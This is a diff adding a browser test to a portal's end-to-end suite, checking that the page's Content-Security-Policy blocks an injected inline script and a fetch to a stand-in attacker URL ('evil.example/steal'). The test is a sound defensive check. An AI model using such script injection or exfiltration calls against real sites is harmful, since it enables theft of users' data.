@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { axeViolations, newPage, seededBrowser, signInThroughForm } from './support/browser';
+import { axeViolations, newPage, seededBrowser, signInThroughForm, takePolicyViolations } from './support/browser';
 
 describe('the portal on the emulators, in Chromium', () => {
   const browser = seededBrowser();
@@ -36,6 +36,33 @@ describe('the portal on the emulators, in Chromium', () => {
     await page.getByRole('contentinfo').getByRole('link', { name: 'Help' }).click();
     await page.getByRole('heading', { name: 'Help for families' }).waitFor();
     expect(await axeViolations(page)).toEqual([]);
+    await context.close();
+  });
+
+  it("the page's Content-Security-Policy refuses injected script and calls to other sites, and the suite sees it (issue 19)", async () => {
+    const { context, page } = await newPage(browser());
+    await page.goto('/classes/enrollment');
+    await page.getByRole('tab', { name: /Summer Camps/ }).waitFor();
+    // The class list ran its own inline script (the preloaded calls were picked up) under the policy.
+    expect(await page.evaluate(() => Object.keys(window.__portalPreload ?? { missing: 1 }))).toEqual([]);
+    expect(takePolicyViolations()).toEqual([]);
+    const outcome = await page.evaluate(async () => {
+      const injected = document.createElement('script');
+      injected.textContent = 'window.__injected = 1';
+      document.head.append(injected);
+      const sent = await fetch('https://evil.example/steal').then(() => 'sent', () => 'refused');
+      return { ran: 'injected' in window ? 'ran' : 'refused', sent };
+    });
+    expect(outcome).toEqual({ ran: 'refused', sent: 'refused' });
+    const seen: string[] = [];
+    await expect.poll(() => {
+      seen.push(...takePolicyViolations());
+      return seen.map((v) => v.replace(/ refused .*/, '')).sort();
+    }).toEqual([
+      '/classes/enrollment: connect-src',
+      '/classes/enrollment: script-src-elem',
+    ]);
+    expect(seen.find((v) => v.includes('connect-src'))).toContain('https://evil.example/steal');
     await context.close();
   });
 });
